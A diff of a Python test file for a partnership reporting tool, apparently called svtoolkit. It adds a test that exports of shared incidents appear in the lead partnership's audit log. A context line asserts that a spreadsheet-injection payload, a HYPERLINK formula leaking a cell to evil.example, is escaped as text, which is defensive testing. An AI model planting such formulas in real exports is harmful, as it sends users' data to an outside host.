@@ -26,8 +26,10 @@ from svtoolkit.reports.models import WardBoundary
 from tests.conftest import MODEL_BACKEND
 from tests.factories import (
     IncidentFactory,
+    IncidentShareFactory,
     MessageFactory,
     ParticipationFactory,
+    PartnershipFactory,
     PlanActionFactory,
     SceneFactory,
     SharingAgreementFactory,
@@ -322,6 +324,47 @@ def test_a_formula_behind_a_control_character_is_written_as_text_with_its_apostr
             cell.data_type for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)
         } == {"s"}
     assert sorted(titles) == ["#N/A", '\'=HYPERLINK("http://evil.example/?leak="&B3,"Details")']
+
+
+@pytest.mark.parametrize(("dataset", "rows"), [("incidents", 1), ("actions", 2)])
+def test_an_export_holding_an_incident_shared_with_us_is_in_its_lead_partnerships_audit_log(
+    client, client_for, demo, other_partnership, dataset, rows
+):
+    """The defect: an export made in a partnership an incident is shared with was written only to that
+    partnership's own log, so the lead partnership, whose data it is, never learnt it had left svtoolkit.
+    Now each lead whose incidents are in the export finds it in its own log: who, from which partnership,
+    what and how many rows of its incidents. A partnership with nothing in the export finds nothing."""
+    southmoor, southmoor_coordinator = other_partnership
+    theirs = IncidentFactory(partnership=southmoor, title="Stabbing by the Southmoor canal")
+    PlanActionFactory.create_batch(2, incident=theirs)
+    IncidentShareFactory(incident=theirs, partnership=demo)
+    # Shared with Northbridge too, but before the period exported: none of its data leaves.
+    eastmere = PartnershipFactory(name="Eastmere Community Safety Partnership")
+    earlier = IncidentFactory(partnership=eastmere, occurred_at=timezone.now() - timedelta(days=800))
+    PlanActionFactory(incident=earlier)
+    IncidentShareFactory(incident=earlier, partnership=demo)
+    PlanActionFactory.create_batch(3, incident=IncidentFactory(partnership=demo))
+
+    response = client_for("coordinator").get(reverse("reports:export", args=[dataset, "csv"]))
+
+    assert response.status_code == 200
+    [own] = AuditEntry.objects.filter(partnership=demo, action=AuditAction.EXPORT_SENSITIVE)
+    assert own.detail["rows"] == rows + (1 if dataset == "incidents" else 3)
+    [told] = AuditEntry.objects.filter(partnership=southmoor)
+    assert (told.action, told.actor_label) == (AuditAction.EXPORT_SENSITIVE, "coordinator@example.org")
+    assert told.detail == {
+        "what": f"{dataset} export",
+        "format": "csv",
+        "rows": rows,
+        "from_partnership": "Northbridge Community Safety Partnership",
+    }
+    assert not AuditEntry.objects.filter(partnership=eastmere).exists()
+    client.force_login(southmoor_coordinator.user, backend=MODEL_BACKEND)
+    page = " ".join(client.get(reverse("audit:log")).content.decode().split())
+    assert (
+        f"Exported sensitive data: {rows} row{'s' if rows > 1 else ''} of your incidents shared with"
+        f" Northbridge Community Safety Partnership, in its {dataset} export (CSV)"
+    ) in page
 
 
 @pytest.mark.parametrize("dataset", ["incidents", "actions"])
